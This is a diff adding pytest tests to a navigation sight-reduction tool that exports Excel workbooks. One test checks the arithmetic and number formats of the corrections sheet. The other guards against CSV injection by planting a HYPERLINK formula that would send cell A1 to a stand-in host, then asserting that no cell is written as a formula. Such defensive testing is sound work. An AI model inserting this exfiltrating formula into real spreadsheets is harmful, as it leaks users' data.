@@ -175,3 +175,39 @@ def test_progress_is_reported_for_a_large_log(tmp_path):
     voyage = process_log(path, progress=lambda done, total: calls.append((done, total)))
     assert calls[-1] == (len(big), len(big)) and len(calls) > 1
     assert voyage.n_reduced == len(big)
+
+
+def test_the_working_sheet_adds_up_and_shows_its_numbers_to_a_tenth(tmp_path):
+    import datetime as dt
+
+    voyage = process_log("sample_sights/demo_sights_hand_kept.csv")
+    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
+    sheet = book["Working"]
+    header = [c.value for c in sheet[1]]
+    row = [c for c in sheet[2]]
+    cell = dict(zip(header, row))
+    # every correction signed: Hs + the total correction = Ho, and the total is the sum of the lines
+    lines = ["IC (′)", "horizon (′)", "dip (′)", "refraction (′)", "SD (′)", "parallax (′)", "phase (′)"]
+    total = sum(cell[name].value for name in lines)
+    assert total == pytest.approx(cell["total correction (′)"].value, abs=1e-9)
+    assert cell["Hs (deg)"].value + total / 60 == pytest.approx(cell["Ho (deg)"].value, abs=1e-12)
+    assert cell["dip (′)"].value < 0 and cell["refraction (′)"].value < 0
+    # displayed to 0.1′ (decimal degrees to 0.0001°) while the cell keeps full precision
+    assert cell["dip (′)"].number_format == "0.0" and cell["Ho (deg)"].number_format == "0.0000"
+    assert isinstance(cell["UTC"].value, dt.datetime) and cell["UTC"].number_format == "yyyy-mm-dd hh:mm:ss"
+    # the time working and the units as given are shown
+    assert cell["time as read"].value == "08:09:53" and cell["watch error (s, fast +)"].value == -7
+    assert cell["ZD (h)"].value == "+1" and cell["height of eye as given"].value == "9.1864 feet"
+
+
+def test_text_from_a_log_is_never_written_as_a_formula(tmp_path):
+    # OWASP, "CSV Injection": a cell that begins with = (or +, -, @) must not become a live formula
+    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
+    demo["observer"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+    path = tmp_path / "injected.csv"
+    demo.to_csv(path, index=False)
+    book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "v.xlsx", plots=False))
+    for name in book.sheetnames:
+        for cells in book[name].iter_rows():
+            for cell in cells:
+                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
